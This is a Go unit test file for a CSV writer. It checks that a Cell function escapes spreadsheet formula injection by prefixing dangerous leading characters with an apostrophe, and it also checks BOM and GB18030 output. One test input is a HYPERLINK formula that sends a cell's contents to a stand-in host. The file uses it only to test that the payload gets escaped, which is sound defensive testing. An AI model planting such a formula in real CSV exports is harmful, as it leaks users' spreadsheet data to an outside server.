package csvout

import (
	"strings"
	"testing"
)

func TestCell(t *testing.T) {
	for in, want := range map[string]string{
		"":      "",
		"north": "north",
		"-12.5": "-12.5", "+3": "+3", "-5%": "-5%", "-1e6": "-1e6", "-.5": "-.5",
		`=HYPERLINK("http://x/?leak="&C2,"x")`: `'=HYPERLINK("http://x/?leak="&C2,"x")`,
		"+1+2":                                 "'+1+2", "-2+3": "'-2+3", "@SUM(A1)": "'@SUM(A1)", "\t=1": "'\t=1", "\r=1": "'\r=1",
		"-": "'-", "-.": "'-.", "-1e": "'-1e", "-inf": "'-inf", "-0x10": "'-0x10", "-1,000": "'-1,000",
	} {
		if got := Cell(in); got != want {
			t.Errorf("Cell(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestWriter(t *testing.T) {
	w := New(Options{})
	if err := w.WriteAll([][]string{{"id", "=1+1"}, {"-3", "@x"}}); err != nil {
		t.Fatal(err)
	}
	b, err := w.Bytes()
	if err != nil {
		t.Fatal(err)
	}
	if got, want := string(b), "\ufeffid,'=1+1\r\n-3,'@x\r\n"; got != want {
		t.Errorf("got %q, want %q", got, want)
	}
	g := New(Options{GB18030: true})
	_ = g.Write([]string{"合计"})
	if b, _ := g.Bytes(); strings.HasPrefix(string(b), "\ufeff") || len(b) != 6 {
		t.Errorf("GB18030: %q", b)
	}
}
